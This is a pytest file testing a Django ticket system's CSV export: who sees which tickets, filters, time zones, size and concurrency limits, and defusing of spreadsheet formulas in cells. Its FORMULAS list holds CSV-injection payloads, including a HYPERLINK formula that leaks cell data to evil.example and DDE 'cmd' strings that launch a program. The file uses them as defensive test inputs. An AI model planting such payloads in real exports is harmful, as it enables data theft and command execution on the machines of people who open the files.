"""A list as a file: what its board shows, to whom it shows it, and nothing that computes."""

import csv
import io
import re
import socket
import time
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from tests.harness.servers import Daphne
from tests.harness.sessions import session_of
from tests.harness.site import Browser, People
from tickets.exchange import exporting, views
from tickets.exchange.cells import as_meant, disarmed
from tickets.models import Ticket
from tickets.own.preferences import prefer

Row = dict[str, str]


def exported(server: Daphne, user: User, query: str = "") -> list[Row]:
    with Browser(server.url, user) as browser:
        answer = browser.get(f"/export.csv{query}")
    assert answer.status_code == 200, answer.text[-500:]
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))


def test_a_stranger_is_led_to_the_log_in_and_others_export_what_they_see(
    server: Daphne, site: People
) -> None:
    site.ticket("Of billing")
    site.ticket("Of network", queue=site.network)
    site.ticket("Dave's", queue=site.network, assignee=site.dave)
    assert Client().get("/export.csv").headers["Location"].startswith("/accounts/login/")
    seen = {
        name: {row["subject"] for row in exported(server, getattr(site, name))}
        for name in ("alice", "bob", "carol", "dave")
    }
    assert seen == {
        "alice": {"Of billing"}, "bob": {"Of network", "Dave's"},
        "carol": {"Of billing", "Of network", "Dave's"}, "dave": {"Dave's"},
    }  # fmt: skip


def test_a_form_cannot_be_posted_and_a_bad_filter_is_a_sentence(
    server: Daphne, site: People
) -> None:
    with Browser(server.url, site.alice) as browser:
        assert browser.post("/export.csv").status_code == 405
        answer = browser.get("/export.csv?status=gone")
        assert answer.status_code == 400
        assert "There is no status “gone”" in answer.text
        head = browser.head("/export.csv")
        assert (head.status_code, head.content) == (200, b"")


def test_filters_search_and_order_are_those_of_the_board(server: Daphne, site: People) -> None:
    first = site.ticket("Printer A", priority="low")
    second = site.ticket("Printer B", priority="urgent")
    site.ticket("Scanner")
    closed = site.ticket("Printer C", status="closed")
    ids = [row["id"] for row in exported(server, site.alice, "?q=printer&sort=-priority")]
    assert ids == [f"{second.pk}", f"{first.pk}"]
    ids = [row["id"] for row in exported(server, site.alice, "?status=closed")]
    assert ids == [f"{closed.pk}"]
    with Browser(server.url, site.alice) as browser:
        board = browser.get("/?q=printer&sort=-priority&page=1").text
    (link,) = re.findall(r'href="(/export\.csv[^"]*)"', board)
    assert link.replace("&amp;", "&") == "/export.csv?q=printer&sort=-priority"


def test_times_are_told_in_the_users_zone_with_its_distance(server: Daphne, site: People) -> None:
    due = datetime(2026, 1, 31, 12, 30, tzinfo=UTC)
    site.ticket(due_at=due)
    prefer(site.alice, time_zone="Europe/Berlin")
    (row,) = exported(server, site.alice)
    assert row["due_at"] == "2026-01-31T13:30:00+01:00"


# --- Formulas -----------------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", "'=1", "''", "'quoted'",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_becomes_a_formula_and_none_is_lost(text: str) -> None:
    cell = disarmed(text)
    assert cell[0] not in "=+-@\t\r\n＝＋－＠"
    assert as_meant(cell) == text


@pytest.mark.parametrize("text", ["", "Printer", "a=b", "1-2", "5", "'tis", "it's", " =1"])
def test_other_texts_stay_as_they_are_on_the_way_in(text: str) -> None:
    assert as_meant(text) == text
    assert as_meant(disarmed(text)) == text


def test_each_text_of_people_in_an_export_is_disarmed(server: Daphne, site: People) -> None:
    site.billing.name = f"={site.billing.name}"
    site.billing.save()
    site.alice.username = f"@{site.alice.username}"
    site.alice.save()
    evil = '=HYPERLINK("x")'
    site.ticket(
        evil, description=f"{evil}\n{evil}", requester_name=evil, requester_email="+x@example.com",
        assignee=site.alice,
    )  # fmt: skip
    (row,) = exported(server, site.alice)
    assert [name for name, cell in row.items() if cell[:1] in ("=", "+", "-", "@")] == []
    assert row["subject"] == f"'{evil}"


def test_what_was_exported_can_be_imported_and_is_the_same(
    server: Daphne, site: People, tmp_path: Path
) -> None:
    due = timezone.now().replace(microsecond=0)
    site.ticket(
        "=1+1", description="'Quoted',\r\n\"twice\";\n\n-end", status="pending", priority="high",
        assignee=site.alice, requester_name="Zoë \U0001f525", requester_email="zoe@example.com",
        due_at=due, created_at=due, tags="refund, vip",
    )  # fmt: skip
    for subject in FORMULAS[:4]:
        site.ticket(subject, description=subject)
    site.ticket("Plain")
    path = tmp_path / "tickets.csv"
    with Browser(server.url, site.alice) as browser:
        path.write_bytes(browser.get("/export.csv").content)
    newest = Ticket.objects.latest("id").pk
    call_command("import_tickets", path, f"--source={site.billing.name}", verbosity=0)
    assert fields(Ticket.objects.filter(queue=site.billing, pk__lte=newest)) == fields(
        Ticket.objects.filter(queue=site.billing, pk__gt=newest)
    )


def fields(tickets: Any) -> list[Any]:
    names = ("subject", "description", "queue", "status", "priority", "assignee", "requester_name",
             "requester_email", "due_at", "created_at", "tags")  # fmt: skip
    rows = list(tickets.values(*names))
    for row in rows:
        row["description"] = row["description"].replace("\r\n", "\n")
        row["created_at"] = row["created_at"].replace(microsecond=0)
    return sorted(rows, key=str)


# --- Bounds -------------------------------------------------------------------------------------


def test_a_list_that_is_too_long_is_refused_in_a_sentence(
    client: Client, site: People, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "MOST", 1)
    client.force_login(site.alice)
    site.ticket()
    assert client.get("/export.csv").status_code == 200
    site.ticket()
    answer = client.get("/export.csv")
    assert answer.status_code == 400
    assert views.TOO_LONG in answer.content.decode()


def test_a_third_export_at_once_is_refused(client: Client, site: People, monkeypatch: Any) -> None:
    monkeypatch.setitem(exporting._under_way, site.alice.pk, exporting.EACH)
    client.force_login(site.alice)
    answer = client.get("/export.csv")
    assert answer.status_code == 429
    assert views.UNDER_WAY in answer.content.decode()


def test_tickets_are_read_only_as_fast_as_their_reader_takes_them(
    server: Daphne, site: People
) -> None:
    """And who loses sight of one meanwhile does not get it: the last one is moved while nobody
    reads. Fifteen megabytes are more than what the kernel keeps on the way."""
    long = "x" * 49_000
    tickets = Ticket.objects.bulk_create(
        Ticket(subject=f"No. {n}", queue=site.billing, description=long) for n in range(300)
    )
    with socket.socket() as reader:
        reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65_536)
        reader.settimeout(20)
        reader.connect(("127.0.0.1", server.port))
        lines = [
            "GET /export.csv?sort=id HTTP/1.1", "Host: 127.0.0.1", "Connection: close",
            f"Cookie: sessionid={session_of(site.alice)}", "", "",
        ]  # fmt: skip
        head = "\r\n".join(lines)
        reader.sendall(head.encode())
        received = reader.recv(1000)
        # It takes nothing for as long as it takes another one to get all of the same: the server
        # must not go on meanwhile.
        with Browser(server.url, site.alice) as quick:
            assert b'"No. 299"' in quick.get("/export.csv").content
        tickets[-1].queue = site.network
        tickets[-1].save()
        pieces = [received]
        while piece := reader.recv(1_000_000):
            pieces.append(piece)
    body = b"".join(pieces)
    assert b'"No. 0"' in body
    assert b'"No. 298"' in body
    assert b'"No. 299"' not in body


def test_an_export_whose_reader_leaves_makes_room_for_another(server: Daphne, site: People) -> None:
    Ticket.objects.bulk_create(
        Ticket(subject=f"No. {n}", queue=site.billing, description="x" * 49_000) for n in range(300)
    )
    for _ in range(2 * exporting.EACH):
        with (
            Browser(server.url, site.alice) as browser,
            browser.stream("GET", "/export.csv") as answer,
        ):
            assert answer.status_code == 200
            next(answer.iter_bytes())
        deadline = time.monotonic() + 10
        while not is_free(server, site.alice):
            assert time.monotonic() < deadline
            time.sleep(0.1)


def is_free(server: Daphne, user: User) -> bool:
    with Browser(server.url, user) as browser:
        return browser.head("/export.csv").status_code == 200
